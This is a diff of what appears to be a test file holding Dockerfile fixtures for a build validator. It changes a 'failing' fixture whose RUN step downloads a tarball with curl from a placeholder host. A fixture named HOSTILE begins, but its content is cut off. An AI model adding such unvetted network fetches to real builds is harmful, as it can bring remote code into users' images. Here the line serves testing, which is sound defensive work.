@@ -28,7 +28,7 @@ LIMIT = 120  # seconds a call may take
 FAILING = """\
 FROM busybox
 RUN echo fine
-RUN echo preparing && curl -fsS http://files.example.org/tool.tgz
+RUN cd /tmp && curl -fsS http://files.example.org/tool.tgz
 """
 GOOD = "FROM busybox\nRUN echo fine\n"
 HOSTILE = r"""FROM busybox
